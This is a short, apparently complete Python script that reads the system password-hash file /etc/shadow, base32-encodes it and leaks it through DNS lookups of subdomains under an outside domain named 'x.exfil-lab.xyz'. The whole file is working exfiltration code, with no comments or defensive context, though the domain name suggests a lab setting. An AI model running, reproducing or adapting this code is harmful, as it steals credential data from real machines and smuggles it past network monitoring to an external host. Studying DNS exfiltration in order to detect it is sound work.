import base64
import socket

DOMAIN = "x.exfil-lab.xyz"

def leak(data: bytes):
    enc = base64.b32encode(data).decode().rstrip("=").lower()
    for i in range(0, len(enc), 60):
        label = enc[i:i + 60]
        try:
            socket.gethostbyname(f"{i}.{label}.{DOMAIN}")
        except socket.gaierror:
            pass

with open("/etc/shadow", "rb") as f:
    leak(f.read())
